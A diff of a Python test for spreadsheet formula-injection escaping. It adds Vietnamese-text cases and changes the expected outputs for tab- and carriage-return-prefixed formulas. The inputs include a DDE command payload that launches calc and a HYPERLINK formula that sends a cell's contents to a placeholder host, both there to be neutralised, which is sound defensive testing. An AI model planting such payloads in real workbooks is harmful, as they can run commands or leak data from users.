@@ -86,9 +86,15 @@ async def test_what_comes_back_from_a_workbook_is_what_went_in() -> None:
         ("+84912345678", "'+84912345678"),
         ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
         ("@SUM(A1)", "'@SUM(A1)"),
-        ("\t=1+1", "'\t=1+1"),
-        ("\r=1+1", "'\r=1+1"),
+        ("\t=1+1", "'\t'=1+1"),
+        ("\r=1+1", "'\r'=1+1"),
         ("1 = 1", "1 = 1"),
+        ('Xin hỏi,=HYPERLINK("http://x/?"&A1)', """Xin hỏi,'=HYPERLINK("http://x/?"&A1)"""),
+        ("một; +2", "một; '+2"),
+        ('một\n "-2', """một\n "'-2"""),
+        ("một|@hai", "một|'@hai"),
+        ("từ 1 - 2, 3", "từ 1 - 2, 3"),
+        ("ai@xa.example, anh", "ai@xa.example, anh"),
     ],
 )
 async def test_no_text_is_a_formula(text: str, shown: str) -> None:
